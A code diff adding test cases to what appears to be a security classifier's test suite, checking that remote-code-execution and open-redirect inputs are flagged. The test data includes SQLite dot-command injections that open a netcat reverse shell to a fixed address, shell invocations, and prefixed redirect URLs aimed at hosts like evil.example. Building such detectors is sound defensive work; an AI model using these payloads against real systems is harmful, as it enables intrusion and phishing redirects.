@@ -785,3 +785,10 @@ t.test("rce (eleventh round): the SQLite shell's dot commands, other shells give
   for (const p of [';\\n.system nc 10.10.10.1 6666 -e sh\\n', "1;.'shell whoami", '";\n. shell nc 10.10.10.1 6666 -e sh', 'zsh -c id', 'ksh -c whoami']) t.ok(q(p).includes('rce'), p)
   for (const p of ['use the .shell command', 'foo\n  .system(x)', 'zsh is my shell', 'the .system file']) t.notOk(q(p).includes('rce'), p)
 })
+
+t.test('open redirects (eleventh round): a URL behind a prefix a check reads as a path', async (t) => {
+  for (const p of ['x00http://google.com', '\u0000http://evil.example', 'hthttp://tp://google.com', '%00http://canarytokens.com/x']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
+  // a plain URL (decided), one with a leading blank, the site's own host behind a prefix, an app's own scheme
+  for (const p of ['http://google.com', ' http://google.com', 'xhttp://shop.example.com/a', 'myapp://callback', 'abchttp:/x']) t.notOk(q(p, 'next').includes('open_redirect'), p)
+  t.notOk(q('x00http://google.com', 'q').includes('open_redirect'), 'under no redirect parameter')
+})
